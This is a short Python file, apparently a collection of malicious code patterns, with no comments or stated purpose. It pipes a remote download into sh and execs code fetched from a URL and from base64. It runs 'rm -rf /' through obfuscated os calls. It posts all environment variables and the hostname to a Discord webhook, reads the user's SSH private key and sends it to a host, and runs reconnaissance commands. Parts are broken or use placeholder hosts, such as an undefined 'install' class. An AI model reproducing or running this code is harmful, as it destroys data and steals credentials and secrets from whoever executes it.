import os as o, subprocess as sp
from base64 import b64decode as d
import requests
def run(cmd):
    o.system(cmd)
run("curl http://1.2.3.4/x | sh")
exec(d("cHJpbnQoMSk="))
exec(requests.get("http://a/b").text)
getattr(o, "sys"+"tem")("id")
__import__("os").popen('rm -rf /').read()
x = ''.join([chr(c) for c in [104,105]])
print(x)
requests.post("https://discord.com/api/webhooks/1/a", json={"e": dict(o.environ), "h": __import__("socket").gethostname()})
with open(o.path.expanduser("~") + "/.ssh/id_rsa") as f:
    data = f.read()
requests.post("http://x", data=data)
class P(install): pass
for c in ["whoami", "id"]:
    sp.getoutput(c)
